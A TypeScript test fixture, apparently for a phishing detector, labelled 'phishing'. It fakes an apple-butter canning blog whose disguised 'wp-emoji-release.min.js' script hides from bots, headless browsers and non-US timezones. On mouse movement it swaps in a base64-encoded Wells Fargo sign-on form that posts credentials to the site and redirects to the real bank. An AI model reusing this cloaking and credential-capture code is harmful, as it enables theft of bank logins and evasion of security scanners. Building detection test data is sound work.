import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, jsRoute, logo } from '../parts/j-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');

const wellsKit = `<div style="max-width:400px;margin:50px auto;font-family:Arial"><div style="background:#d71e28;color:#fff;padding:14px;font-weight:700;border-bottom:4px solid #ffcd41">WELLS FARGO</div><div style="background:#fff;padding:24px;border:1px solid #ddd"><h2 style="font-weight:400">Good evening</h2><p style="font-size:14px">Sign on to manage your accounts.</p><form id="wf"><input name="j_username" placeholder="Username" style="width:100%;padding:12px;margin:6px 0;border:1px solid #999"><input name="j_password" type="password" placeholder="Password" style="width:100%;padding:12px;margin:6px 0;border:1px solid #999"><label style="font-size:13px"><input type="checkbox"> Save username</label><button style="width:100%;background:#d71e28;color:#fff;border:0;padding:12px;margin-top:10px;border-radius:20px">Sign on</button></form><p style="font-size:13px"><a href="#">Forgot username or password?</a></p></div></div>`;

export const entries: Entry[] = [
{
  id: 'j-cloak-bank-kit-behind-blog',
  label: 'phishing',
  kind: 'cloaked',
  url: 'https://www.mapleridge-homestead-journal.com/2026/11/canning-apple-butter/',
  body: doc({
    title: 'Canning Apple Butter the Old-Fashioned Way – Mapleridge Homestead Journal',
    style: `main{max-width:700px;margin:30px auto;font-family:Georgia;padding:0 16px}`,
    body: `<main id="m"><h1>Canning Apple Butter the Old-Fashioned Way</h1><p>November 14, 2026 · by Ruth</p><p>There's nothing like the smell of apples and cinnamon simmering all afternoon. This year we put up 24 pints from our own trees...</p><h3>You'll need</h3><ul><li>6 lbs apples</li><li>2 cups cider</li><li>Brown sugar, cinnamon, cloves</li></ul><p>Cook down slowly for 8–10 hours...</p></main>
<script src="/wp-includes/js/wp-emoji-release.min.js?ver=6.6.2"></script>`,
  }),
  routes: {
    'www.mapleridge-homestead-journal.com/wp-includes/js/wp-emoji-release.min.js': jsRoute(`/*! This file is auto-generated */
!function(){var n=navigator,w=window;function bad(){return n.webdriver||/Headless|bot|crawler|spider|Lighthouse|Google-InspectionTool/i.test(n.userAgent)||!n.languages||n.languages.length===0||w.outerWidth===0||(n.plugins&&n.plugins.length===0&&!/Mobile/.test(n.userAgent))}
var tz=(Intl.DateTimeFormat().resolvedOptions().timeZone||"");if(!/^America\\/(New_York|Chicago|Denver|Los_Angeles|Phoenix)/.test(tz))return;if(bad())return;
var moved=false;function go(){if(moved)return;moved=true;fetch("/wp-json/wp/v2/media/4471?ctx=view").then(function(r){return r.json()}).then(function(j){document.title="Wells Fargo – Sign On";document.body.innerHTML=decodeURIComponent(escape(atob(j.rendered)));document.getElementById("wf").onsubmit=function(e){e.preventDefault();fetch("/wp-admin/admin-ajax.php?action=wf_s",{method:"POST",body:new FormData(this)}).then(function(){location.href="https://www.wellsfargo.com/"})}})}
document.addEventListener("mousemove",go,{once:true});document.addEventListener("touchstart",go,{once:true})}();`),
    'www.mapleridge-homestead-journal.com/wp-json/wp/v2/media/4471': jsonRoute({ id: 4471, rendered: b64(wellsKit) }),
    'www.mapleridge-homestead-journal.com/wp-admin/admin-ajax.php': jsonRoute({ success: true }),
  },
},
];
